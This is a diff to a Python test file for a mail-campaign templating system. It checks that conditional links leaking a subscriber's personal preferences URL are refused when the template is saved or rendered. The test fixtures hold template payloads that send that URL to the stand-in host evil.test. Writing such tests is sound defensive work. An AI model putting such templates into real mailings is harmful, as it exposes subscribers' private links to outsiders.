@@ -81,13 +81,20 @@ def test_personal_links_as_whole_link_targets_or_alone_in_text_still_work(db, bo
 
 
 def test_a_misplaced_link_behind_a_condition_the_save_check_misses_is_never_rendered(db):
-    # The save check fills the template with sample names; "Zed" is not one of them.
-    body = '{% if subscriber.name == "Zed" %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}Hello'
+    # The save check fills the template with sample names (and any the template compares the name with)...
+    with pytest.raises(TemplateRefused, match=MISPLACED):
+        save(
+            db,
+            '{% if subscriber.name == "Zed" %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}',
+            BodyFormat.MARKDOWN,
+        )
+    # ...but no sample has seven letters: the mail for such a name is refused when it is rendered.
+    body = "{% if subscriber.name|length > 6 %}[news](https://evil.test/?u={{ preferences_url }}){% endif %}Hello"
     campaign = save(db, body, BodyFormat.MARKDOWN)
 
     assert "Hello" in render.render_mail(campaign, VALUES).text
     with pytest.raises(TemplateRefused, match=MISPLACED):
-        render.render_mail(campaign, MailValues("Zed", *LINKS, VALUES.web_version_url))
+        render.render_mail(campaign, MailValues("Zebedee", *LINKS, VALUES.web_version_url))
 
 
 @pytest.mark.parametrize(
